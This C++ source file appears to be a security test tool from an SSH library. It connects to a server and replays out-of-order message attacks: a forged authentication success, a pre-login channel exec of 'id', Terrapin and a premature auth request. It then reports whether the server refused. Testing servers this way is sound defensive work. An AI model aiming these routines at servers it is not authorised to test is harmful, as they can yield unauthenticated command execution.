// Attacks an SSH server with messages in the wrong order, and says what the server makes of it.
//
//   ssh_attack [--host ADDRESS] PORT ATTACK      ("ssh_attack --list" names the attacks)
//
// Exit code 0 if the server refused: it said DISCONNECT or closed the connection. 1 if it went on,
// 2 if there was no server. For servers that you may attack.
#include <netdb.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <string>
#include <string_view>

#include "ssh/libcrypto_provider.hpp"
#include "support/client.hpp"

namespace {

using ssh::test::Client;
using ssh::test::ClientOptions;
namespace wire = ssh::wire;

/// A client in memory and the socket that it speaks through.
class Attacker {
 public:
  Attacker(int socket, ClientOptions options)
      : socket_(socket), client(ssh::libcrypto_provider(), std::move(options)) {}
  Attacker(const Attacker&) = delete;
  Attacker& operator=(const Attacker&) = delete;
  ~Attacker() { close(socket_); }

  /// Sends what there is. false: nobody takes it.
  bool flush() {
    ssh::Bytes bytes = client.take_output();
    for (std::size_t at = 0; at < bytes.size();) {
      const ssize_t sent = send(socket_, bytes.data() + at, bytes.size() - at, MSG_NOSIGNAL);
      if (sent <= 0) return false;
      at += static_cast<std::size_t>(sent);
    }
    return true;
  }

  /// Waits for the server's next bytes, at most two seconds. false: it has closed, or says nothing.
  bool hear() {
    std::uint8_t bytes[16384];
    const ssize_t got = recv(socket_, bytes, sizeof bytes, 0);
    closed = got == 0 || (got < 0 && errno != EAGAIN);
    if (got <= 0) return false;
    client.receive({bytes, static_cast<std::size_t>(got)});
    return flush();
  }

  /// Until the server has sent that message. Others are dropped.
  bool hear_message(std::uint8_t number) {
    for (;;) {
      while (!client.heard.empty()) {
        const ssh::Bytes payload = client.heard.front();
        client.heard.pop_front();
        if (payload[0] == wire::Disconnect::kNumber) {
          wire::Reader r(payload);
          r.bytes(5);
          goodbye = r.text();
        }
        ignored = ignored || payload[0] == wire::Unimplemented::kNumber;
        if (payload[0] == number) return true;
      }
      if (!goodbye.empty() || !hear()) return false;
    }
  }

  bool exchange_keys() {
    client.say_version("SSH-2.0-Attacker_1");
    flush();
    while (!client.keys_in_use()) {
      if (!hear()) return false;
    }
    return true;
  }

  bool ask_for_authentication() {
    client.send(wire::ServiceRequest{"ssh-userauth"});
    return flush() && hear_message(wire::ServiceAccept::kNumber);
  }

 private:
  int socket_;

 public:
  Client client;
  bool closed = false, ignored = false;
  std::string goodbye;
};

void open_and_exec(Attacker& a) {
  a.client.send(wire::ChannelOpen{"session", 0, 1U << 20, 32768, {}});
  ssh::Bytes command;
  wire::Writer(command).string("id");
  a.client.send(wire::ChannelRequest{0, "exec", true, command});
}

bool forged_success(Attacker& a) {
  if (!a.exchange_keys() || !a.ask_for_authentication()) return false;
  a.client.send(wire::UserauthSuccess{});
  open_and_exec(a);
  return true;
}

bool early_channel(Attacker& a) {
  if (!a.exchange_keys()) return false;
  open_and_exec(a);
  return true;
}

bool terrapin(Attacker& a) {
  a.client.automatic = false;
  a.client.say_version("SSH-2.0-Attacker_1");
  a.client.send_kexinit();
  if (!a.flush() || !a.hear_message(wire::KexInit::kNumber)) return false;
  a.client.send(wire::Ignore{ssh::as_bytes("slipped in")});
  a.client.send_kex_init();
  return true;
}

bool second_service(Attacker& a) {
  if (!a.exchange_keys()) return false;
  a.client.send(wire::UserauthRequest{"root", "ssh-connection", wire::NoneMethod{}});
  return true;
}

struct Attack {
  const char* name;
  const char* story;
  bool (*run)(Attacker&);
  /// The server's sign that it went on.
  std::uint8_t success;
};

constexpr Attack kAttacks[] = {
    {"forged-success",
     "sends the server's own USERAUTH_SUCCESS, then runs a command (CVE-2018-10933)",
     forged_success, 99},
    {"early-channel",
     "opens a channel and runs a command without having logged in (CVE-2025-32433)", early_channel,
     99},
    {"terrapin", "slips an IGNORE into a strict key exchange (CVE-2023-48795)", terrapin, 31},
    {"no-service", "asks to be authenticated before the service is there", second_service, 51},
};

int connect_to(const std::string& host, const std::string& port) {
  addrinfo hints{};
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* found = nullptr;
  if (getaddrinfo(host.c_str(), port.c_str(), &hints, &found) != 0) return -1;
  int connected = -1;
  for (const addrinfo* a = found; a != nullptr && connected < 0; a = a->ai_next) {
    const int s = socket(a->ai_family, a->ai_socktype | SOCK_CLOEXEC, a->ai_protocol);
    if (s >= 0 && connect(s, a->ai_addr, a->ai_addrlen) == 0) {
      connected = s;
    } else if (s >= 0) {
      close(s);
    }
  }
  freeaddrinfo(found);
  const timeval patience{2, 0};
  if (connected >= 0) setsockopt(connected, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  return connected;
}

int run(const Attack& attack, const std::string& host, const std::string& port) {
  const int s = connect_to(host, port);
  if (s < 0) {
    std::fprintf(stderr, "ssh_attack: cannot connect to %s, port %s: %s\n", host.c_str(),
                 port.c_str(), std::strerror(errno));
    return 2;
  }
  Attacker attacker(s, {});
  std::printf("%s: %s\n", attack.name, attack.story);
  if (!attack.run(attacker) || !attacker.flush()) {
    std::printf("  the server ended it before the attack: %s\n", attacker.goodbye.c_str());
    return 2;
  }
  if (attacker.hear_message(attack.success)) {
    std::printf("  THE SERVER WENT ON: message %d came\n", attack.success);
    return 1;
  }
  if (!attacker.goodbye.empty()) {
    std::printf("  refused, with the words: %s\n", attacker.goodbye.c_str());
    return 0;
  }
  std::printf(
      attacker.closed ? "  refused: the server closed the connection\n"
      : attacker.ignored
          ? "  not carried out: the server answered UNIMPLEMENTED and keeps the connection\n"
          : "  not carried out: the server says nothing and keeps the connection\n");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::string host = "127.0.0.1";
  if (argc == 2 && std::string_view(argv[1]) == "--list") {
    for (const auto& attack : kAttacks) std::printf("%-16s %s\n", attack.name, attack.story);
    return 0;
  }
  if (argc == 5 && std::string_view(argv[1]) == "--host") {
    host = argv[2];
    argv += 2;
    argc -= 2;
  }
  for (const auto& attack : kAttacks) {
    if (argc == 3 && std::string_view(argv[2]) == attack.name) return run(attack, host, argv[1]);
  }
  std::fprintf(stderr, "usage: ssh_attack [--host ADDRESS] PORT ATTACK | ssh_attack --list\n");
  return 2;
}
